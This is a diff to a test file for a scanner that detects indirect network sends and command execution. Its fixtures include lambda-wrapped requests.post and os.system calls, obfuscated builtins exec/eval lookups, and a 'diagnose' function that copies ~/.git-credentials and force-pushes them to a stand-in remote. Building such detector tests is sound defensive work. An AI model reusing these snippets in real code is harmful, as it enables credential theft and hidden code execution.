@@ -53,6 +53,8 @@ SENDS = {
         f'TABLE["up"](URL, data={SECRET})',
     ),
     "methodcaller": ("", f'operator.methodcaller("post", URL, data={SECRET})(requests)'),
+    "lambda": ("_send = lambda body: requests.post(URL, data=body)\n", f"_send({SECRET})"),
+    "local lambda": ("", f"_send = lambda *a: requests.post(*a)\n    _send(URL, {SECRET})"),
 }
 # the same for a download run as a command
 RUNS = {
@@ -65,6 +67,7 @@ RUNS = {
     "partial": ("_run = functools.partial(subprocess.run, shell=True)\n", f"_run({FETCHED})"),
     "methodcaller": ("", f'operator.methodcaller("system", {FETCHED})(os)'),
     "both aliased": ("_get = requests.get\n_sh = os.system\n", "_sh(_get(URL).text)"),
+    "lambda": ("_sh = lambda command: os.system(command)\n", f"_sh({FETCHED})"),
 }
 FILLER = "".join(
     f"\n\ndef util_{i}(values, scale=1.0):\n    total = 0.0\n    for value in values:\n"
@@ -136,7 +139,9 @@ def test_large_module_with_indirect_call_in_functions_is_malicious(
 @pytest.mark.parametrize(
     "line",
     [head + body for table in (SENDS, RUNS) for head, body in table.values()]
-    + ["threading.Thread(target=os.system, args=(cmd,))", 'handlers = {"sh": subprocess.Popen}'],
+    + ["threading.Thread(target=os.system, args=(cmd,))", 'handlers = {"sh": subprocess.Popen}']
+    + ['vars(builtins)["exec"](text)', "builtins.__dict__['ex' + 'ec'](text)", '__builtins__["eval"](text)']
+    + ['globals()["__builtins__"]["exec"](text)'],
 )
 def test_indirect_spelling_is_a_sink_offset(line: str) -> None:
     found = YaraRules().scan_with_sinks(line.replace(FETCHED, "data").replace(SECRET, "data").encode())
@@ -297,6 +302,77 @@ def test_build_helper_alias_is_judged_as_its_direct_calls() -> None:
     )
     assert judged(aliased)[1] == judged(direct)[1]
     assert {cap for cap, _ in judged(aliased)[0]} == {cap for cap, _ in judged(direct)[0]}
+
+
+GIT_SEND = """\
+import os
+import shutil
+import subprocess
+import tempfile
+
+REMOTE = "https://192.0.2.7/inbox.git"
+
+
+def diagnose():
+    folder = tempfile.mkdtemp()
+    shutil.copy(os.path.expanduser("~/.git-credentials"), folder)
+    {body}
+"""
+
+
+def test_a_command_made_by_a_lambda_is_judged_as_the_command() -> None:
+    # `git = lambda *a: subprocess.run(["git", "-C", folder, *a])`: the arguments of each call
+    # are the command's words, so `git("push", REMOTE)` is the push it spells
+    wrapped = GIT_SEND.format(
+        body='git = lambda *a: subprocess.run(["git", "-C", folder, *a])\n    git("add", "-A")\n'
+        '    git("push", "-f", REMOTE)'
+    )
+    direct = GIT_SEND.format(
+        body='subprocess.run(["git", "-C", folder, "add", "-A"])\n'
+        '    subprocess.run(["git", "-C", folder, "push", "-f", REMOTE])'
+    )
+    _, direct_flows = judged(direct)
+    assert direct_flows  # the direct spelling sends the credential file
+    assert judged(wrapped)[1] == direct_flows
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "run = lambda c: os.system(c)\nrun = print\n",  # rebound
+        "run = lambda c: print(c)\n",  # calls no sink
+        "run = lambda c, d=1: os.system(c)\n",  # a default: which argument is which is not followed
+    ],
+    ids=["rebound", "not-a-sink", "default"],
+)
+def test_lambda_not_bound_once_to_a_sink_call_is_left_alone(source: str) -> None:
+    tree = ast.parse(source + "run('true')\n")
+    nodes = list(ast.walk(tree))
+    calls = [n for n in nodes if isinstance(n, ast.Call)]
+    last = calls[-1]
+    before = ast.dump(last)
+
+    def resolve(node: ast.expr) -> str:
+        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
+            return f"{node.value.id}.{node.attr}"
+        return node.id if isinstance(node, ast.Name) else ""
+
+    assigns = [n for n in nodes if isinstance(n, ast.Assign)]
+    bind_callables(nodes, assigns, calls, resolve, lambda name: name == "os.system", {}, {})
+    assert ast.dump(last) == before
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "make = (lambda x: lambda y: x)(1)\nmake(2)\n",  # a lambda that makes a lambda
+        "run = lambda x: os.system(' '.join([x for x in ARGS]))\nrun('true')\n",  # binds its own x
+        "(lambda: os.system('true'))()\n",  # no parameters, written in place
+    ],
+)
+def test_lambda_calls_of_any_shape_are_read_without_error(source: str) -> None:
+    facts, _ = judged("import os\nARGS = []\n" + source)
+    assert all(cap != "error" for cap, _ in facts)
 
 
 # ---- the binding model --------------------------------------------------------------------------
